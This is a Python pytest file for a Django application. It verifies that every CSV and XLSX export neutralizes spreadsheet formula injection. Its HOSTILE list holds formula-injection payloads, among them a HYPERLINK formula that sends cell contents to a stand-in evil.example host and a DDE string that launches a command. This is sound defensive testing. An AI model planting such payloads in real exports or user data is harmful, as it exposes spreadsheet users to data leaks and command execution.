"""Finding 7 of issue 13: every CSV/XLSX export of every app, downloaded over HTTP with hostile
text planted in the data it shows (an organization renamed to ``=HYPERLINK(…)``, a course, a
skill label, a supply row, a community name), contains no cell a spreadsheet program would run
as a formula. It walks the exports of community, taxonomy, curriculum and demand (the plan and
evidence exports use the curriculum test fixtures)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from decimal import Decimal
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from conftest import World, client_for
from talentbridge.community import services as community_services
from talentbridge.core.services import audit_record
from talentbridge.core.tabular import is_neutral
from talentbridge.curriculum import services
from talentbridge.curriculum.models import TrainingPlanVersion
from talentbridge.curriculum.tests.authz import offering
from talentbridge.curriculum.tests.conftest import (  # noqa: F401 (fixtures)
    draft,
    taxonomy,
    taxonomy_data_dir,
)
from talentbridge.demand.models import SupplyRecord
from talentbridge.taxonomy.models import Skill

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _cells_of_csv(data: bytes) -> Iterator[str]:
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        yield from row


def _cells_of_xlsx(data: bytes) -> Iterator[Any]:
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows(values_only=True):
            yield from row


def _body(response: Any) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return bytes(response.content)


@pytest.fixture
def hostile_world(world: World, draft: TrainingPlanVersion) -> World:  # noqa: F811
    alice = world.users["alice"]
    community_services.organization_update(
        actor=alice, organization=world.college, data={"name_zh": HOSTILE[0]}
    )
    # A new name undoes a verification (ADR 0009); verified again, the college's supply rows
    # count in the report, so the hostile names reach its XLSX.
    type(world.college).objects.filter(pk=world.college.pk).update(verification_status="verified")
    world.enterprise.name_zh = world.enterprise.name_en = HOSTILE[1]
    world.enterprise.save(update_fields=["name_zh", "name_en"])
    world.community.name_zh = HOSTILE[3]
    world.community.save(update_fields=["name_zh"])
    audit_record(actor=alice, action="community.rename", obj=world.community,
                 after={"name": HOSTILE[3]}, community_id=world.community.pk)  # fmt: skip
    for index, text in enumerate(HOSTILE):
        Skill.objects.create(
            scheme="extension", concept_id=f"test.hostile.{index}", uri=f"urn:test:hostile:{index}",
            kind="skill", label_zh=text, label_en=text, alt_labels_zh=[text], description_en=text,
        )  # fmt: skip
        services.course_create(
            actor=world.users["tina"], version=draft,
            data={"code": f"H{index}", "name_zh": text, "name_en": text, "credits": Decimal(1),
                  "hours_theory": 8, "hours_practice": 8, "semester": 1,
                  "course_type": "professional_core"},
        )  # fmt: skip
        SupplyRecord.objects.create(
            college=world.college, college_name=text, region_code="330782",
            major_code=text[:10], major_name=text, year=2024, enrolled=3, graduates=2,
        )  # fmt: skip
    return world


def _exports(world: World, version: TrainingPlanVersion) -> list[tuple[str, str, str, dict]]:
    """(label, role, url, query) of every CSV/XLSX download the site offers."""
    return [
        ("organization audit CSV", "college_admin",
         reverse("community:org-audit", kwargs={"pk": world.college.pk}), {"format": "csv"}),
        ("community audit CSV", "secretariat",
         reverse("community:community-audit", kwargs={"slug": world.community.slug}),
         {"format": "csv"}),
        ("skills CSV", "student", reverse("taxonomy:skill-export"),
         {"format": "csv", "scheme": "extension"}),
        ("plan XLSX", "college_admin",
         reverse("curriculum:version-export", kwargs={"pk": version.pk}), {}),
        ("plan XLSX (API)", "college_admin",
         reverse("api-curriculum-export", kwargs={"pk": version.pk}), {}),
        ("evidence XLSX", "college_admin",
         reverse("curriculum:offering-evidence", kwargs={"pk": offering(world).pk}),
         {"export": "xlsx"}),
        ("supply-demand report XLSX", "government_officer", reverse("demand:report-xlsx"),
         {"region": "330782", "year": "2024"}),
    ]  # fmt: skip


def test_every_export_neutralizes_formulas(
    hostile_world: World,
    draft: TrainingPlanVersion,  # noqa: F811
) -> None:
    for label, role, url, query in _exports(hostile_world, draft):
        response = client_for(hostile_world, role).get(url, query)
        assert response.status_code == 200, (label, response.status_code)
        assert response["Content-Disposition"].startswith("attachment"), label
        data = _body(response)
        is_csv = response["Content-Type"].startswith("text/csv")
        cells = list(_cells_of_csv(data) if is_csv else _cells_of_xlsx(data))
        planted = [c for c in cells if isinstance(c, str) and any(h in c for h in HOSTILE)]
        assert planted, f"{label}: the hostile text did not reach the export"
        dangerous = [c for c in cells if not is_neutral(c)]
        assert not dangerous, f"{label}: cells that would run as formulas: {dangerous[:5]}"
